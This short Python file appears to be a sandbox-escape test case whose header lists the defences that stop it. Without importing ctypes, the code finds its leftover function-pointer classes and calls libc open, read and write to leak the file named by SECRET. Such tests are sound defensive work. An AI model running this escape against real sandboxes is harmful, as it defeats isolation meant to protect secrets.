# Builds native calls from the classes that ctypes left behind, without any import.
# evidence: token
# held by: seccomp, landlock, empty_root, other_user, audit
# needs: python<3.13
def descendants(kind, seen):
    for child in type.__subclasses__(kind):
        if child not in seen:
            seen.append(child)
            descendants(child, seen)
    return seen


class Library:
    _handle = 0


for kind in descendants(object, []):
    if kind.__name__ == 'Function':
        place = bytearray(100)
        call = [value for value in kind.__mro__ if value.__name__ in ('CFuncPtr', 'PyCFuncPtr')][0]

        class Native(call):
            _flags_ = 1
        opened = Native(('open', Library()))(SECRET.encode(), 0)
        import_free = bytes(200)
        Native(('read', Library()))(opened, import_free, 100)
        Native(('write', Library()))(1, import_free, 100)
        break
